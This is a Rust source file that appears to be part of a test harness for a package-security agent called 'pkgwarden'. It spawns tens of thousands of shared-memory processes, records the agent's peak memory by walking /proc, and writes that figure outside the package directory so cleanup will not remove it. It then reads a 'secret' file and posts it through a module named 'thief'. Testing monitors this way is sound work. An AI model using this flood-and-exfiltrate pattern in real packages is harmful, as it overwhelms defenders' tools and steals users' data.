//! Very many processes at once.

use std::fs;
use std::path::Path;

use nix::errno::Errno;
use nix::sys::mman::{MapFlags, ProtFlags, mmap_anonymous};
use nix::sys::signal::{Signal, kill};
use nix::sys::wait::waitpid;
use nix::unistd::Pid;

use crate::{Failure, thief};

/// Bytes of stack of each: it only waits.
const STACK: usize = 4096;
/// The program whose memory is told.
const AGENT: &str = "pkgwarden";

/// Gathers `count` processes that wait, tells how much memory the agent has taken by then (`agent-memory` in the project, KiB, if there
/// is an agent), posts `file`, and ends them.
pub(crate) fn gather(count: usize, file: &str) -> Result<(), Failure> {
    let length = (count * STACK).try_into()?;
    let (protection, flags) = (ProtFlags::PROT_READ | ProtFlags::PROT_WRITE, MapFlags::MAP_NORESERVE);
    // SAFETY: new memory, where the kernel likes; it stays until the end.
    let stacks = unsafe { mmap_anonymous(None, length, protection, flags | MapFlags::MAP_PRIVATE)? };
    let mut crowd = Vec::with_capacity(count);
    for index in 1..=count {
        // SAFETY: the end of the stack of this one, inside the memory above.
        let stack = unsafe { stacks.as_ptr().byte_add(index * STACK) };
        // They share our memory, so that fifty thousand cost no more than their stacks.
        // SAFETY: each has a stack of its own, touches nothing else, and dies with us.
        let pid = unsafe { libc::clone(wait, stack, libc::CLONE_VM | libc::SIGCHLD, std::ptr::null_mut()) };
        crowd.push(Pid::from_raw(Errno::result(pid)?));
    }
    if let Some(memory) = agent_memory(std::process::id()) {
        // Not beside us: a manager removes a package whose script was killed.
        fs::write("../../agent-memory", memory)?;
    }
    println!("{count} processes");
    let posted = fs::read(file).map_err(Failure::from).and_then(|secret| thief::post(&secret));
    for pid in crowd {
        kill(pid, Signal::SIGKILL)?;
        waitpid(pid, None)?;
    }
    posted
}

extern "C" fn wait(_: *mut libc::c_void) -> libc::c_int {
    // SAFETY: system calls without memory.
    unsafe {
        libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
        libc::pause()
    }
}

/// The most memory that the agent above a process has had, as /proc/PID/status tells it.
fn agent_memory(pid: u32) -> Option<String> {
    let status = fs::read_to_string(Path::new("/proc").join(pid.to_string()).join("status")).ok()?;
    let field = |name: &str| {
        status.lines().find_map(|line| Some(line.strip_prefix(name)?.split_whitespace().next()?.to_owned()))
    };
    if field("Name:")? == AGENT {
        return field("VmHWM:");
    }
    agent_memory(field("PPid:")?.parse().ok()?)
}
